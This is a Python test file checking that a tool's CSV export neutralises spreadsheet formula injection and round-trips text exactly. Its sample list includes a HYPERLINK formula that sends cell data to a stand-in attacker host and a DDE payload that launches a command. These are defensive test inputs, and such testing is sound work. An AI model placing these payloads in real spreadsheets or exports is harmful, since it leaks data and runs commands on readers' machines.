"""CSV export never hands a spreadsheet a formula, and voc reads its own CSV back exactly."""

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from voc.csvcells import defuse, restore

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1 555 0100 please call",
    "-2 stars, would not buy again",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# Text that already starts with quotes must come back with exactly as many.
QUOTED = ["'=already quoted by the customer", "''-two quotes", "'plain quote", "it's fine"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def capture_all(voc, texts, *more):
    for text in texts:
        voc(*more, "capture", "--no-redact", "--", text)


def test_a_formula_in_any_text_cell_is_exported_behind_a_quote(voc):
    voc("capture", "-c", "=cmd|' /C calc'!A0", "-a", "@evil", "--", FORMULAS[0])
    for command in ("export", "list"):
        row = csv_rows(voc(command, "--format", "csv").stdout)[0]
        assert row["text"] == "'" + FORMULAS[0], command
        assert row["customer"] == "'=cmd|' /C calc'!A0", command
        assert row["account"] == "'@evil", command


def test_no_exported_cell_starts_a_formula(voc):
    capture_all(voc, FORMULAS + QUOTED)
    for row in csv_rows(voc("export", "--format", "csv").stdout):
        for name, cell in row.items():
            if name != "sentiment":  # a number: -0.25 is a negative score, no formula
                assert not cell.startswith(STARTS), (name, cell)


def test_a_voc_csv_imported_back_gives_the_original_text(voc, isolated):
    first, second = str(isolated / "a.db"), str(isolated / "b.db")
    capture_all(voc, FORMULAS + QUOTED, "--db", first)
    sheet = isolated / "notes.csv"
    voc("--db", first, "export", "--format", "csv", "-o", str(sheet))
    voc("--db", second, "import", "--no-redact", str(sheet))
    mine, theirs = (
        sorted(json.loads(r)["text"] for r in voc("--db", db, "export").stdout.splitlines())
        for db in (first, second)
    )
    assert theirs == mine == sorted(FORMULAS + QUOTED)
    again = isolated / "again.csv"
    voc("--db", second, "export", "--format", "csv", "-o", str(again))
    texts = sorted(r["text"] for r in csv_rows(again.read_text()))
    assert texts == sorted(r["text"] for r in csv_rows(sheet.read_text()))  # idempotent


def test_another_programs_csv_keeps_its_leading_quote(voc, isolated):
    """Only voc's own CSV (it has a uid column) had a quote added; anyone else's is data."""
    sheet = isolated / "theirs.csv"
    sheet.write_text("text,customer\n'=1+1 is what I typed,'@ana\n")
    voc("import", str(sheet))
    note = json.loads(voc("export").stdout)
    assert (note["text"], note["customer"]) == ("'=1+1 is what I typed", "'@ana")


@given(st.text())
def test_restore_undoes_defuse_for_any_text(text):
    defused = defuse(text)
    assert not defused.startswith(STARTS)
    assert restore(defused) == text
    # the quote is added only when the text (after its own quotes) starts a formula
    added = len(defused) - len(text)
    assert added == int(text.lstrip("'").startswith(STARTS))
